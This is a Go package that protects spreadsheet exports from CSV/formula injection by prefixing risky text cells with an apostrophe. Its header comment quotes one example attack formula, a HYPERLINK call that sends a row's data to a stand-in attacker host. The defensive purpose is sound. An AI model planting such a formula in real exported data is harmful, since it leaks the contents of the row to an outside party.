// Package spreadsheet keeps the text that gongkai writes into CSV and XLSX
// exports from being taken as formulas by the spreadsheet program that
// opens them ("CSV injection"): an applicant's name or a report's agency
// such as =HYPERLINK("http://evil.example/?"&A1,"点击") would otherwise
// run, or leak the row, when a member of staff opens the export.
//
// Every exported cell of text goes through Text (CSV rows through CSV,
// XLSX rows through Values); numbers written as numbers are left alone.
package spreadsheet

import (
	"encoding/csv"
	"fmt"
	"io"
	"regexp"
)

// plainNumber matches a decimal number such as -3 or 12.5, which no
// spreadsheet runs as a formula: a negative count stays a number.
var plainNumber = regexp.MustCompile(`^[-+]?[0-9]+(\.[0-9]+)?$`)

// Text returns s as a cell a spreadsheet shows as text: a value starting
// with =, +, -, @, tab or carriage return gets a leading apostrophe, as
// OWASP recommends, unless it is a plain decimal number.
func Text(s string) string {
	if s == "" || plainNumber.MatchString(s) {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

// Values returns an XLSX row with each string cell passed through Text and
// every other value (numbers, times) as it was, so figures stay figures.
func Values(row []any) []any {
	out := make([]any, len(row))
	for i, v := range row {
		if s, ok := v.(string); ok {
			v = Text(s)
		}
		out[i] = v
	}
	return out
}

// CSV writes rows of CSV with every cell passed through Text.
type CSV struct {
	w   *csv.Writer
	row []string
}

// NewCSV returns a CSV writer on w.
func NewCSV(w io.Writer) *CSV {
	return &CSV{w: csv.NewWriter(w)}
}

// Write writes one row.
func (c *CSV) Write(cells ...string) error {
	c.row = c.row[:0]
	for _, s := range cells {
		c.row = append(c.row, Text(s))
	}
	if err := c.w.Write(c.row); err != nil {
		return fmt.Errorf("spreadsheet: write CSV row: %w", err)
	}
	return nil
}

// Flush writes what is buffered and returns the first error met, if any.
func (c *CSV) Flush() error {
	c.w.Flush()
	if err := c.w.Error(); err != nil {
		return fmt.Errorf("spreadsheet: write CSV: %w", err)
	}
	return nil
}
